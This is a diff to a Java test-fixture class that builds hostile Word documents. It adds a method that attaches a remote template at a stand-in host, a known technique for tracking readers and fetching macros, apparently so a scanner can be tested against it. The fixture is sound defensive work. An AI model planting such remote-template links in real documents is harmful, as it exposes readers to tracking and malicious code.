@@ -179,6 +179,21 @@ public final class HostileFiles {
                 Map.of("word/embeddings/Microsoft_Excel_Worksheet.xlsx", bytes));
     }
 
+    /**
+     * {@code docx} attached to a template on a web server (Word fetches it at every opening: the address learns who
+     * reads, and a hostile template brings macros), beside an ordinary hyperlink, which is allowed.
+     */
+    public static Path withRemoteTemplate(Path docx, Path out) throws IOException {
+        String rels = "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<Relationships xmlns=\""
+                + "http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"rId1\" Type=\""
+                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\""
+                + "http://mau.invalid/mau.dotm\" TargetMode=\"External\"/><Relationship Id=\"rId2\" Type=\""
+                + "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\""
+                + "https://dichvucong.gov.vn/\" TargetMode=\"External\"/></Relationships>";
+        return rewrite(docx, out, "word/document.xml", xml -> xml,
+                Map.of("word/_rels/settings.xml.rels", rels.getBytes(StandardCharsets.UTF_8)));
+    }
+
     /** {@code docx} encrypted with a password as Word does it (agile encryption in an OLE2 container). */
     public static Path encrypted(Path docx, Path out, String password) throws Exception {
         try (POIFSFileSystem fs = new POIFSFileSystem()) {
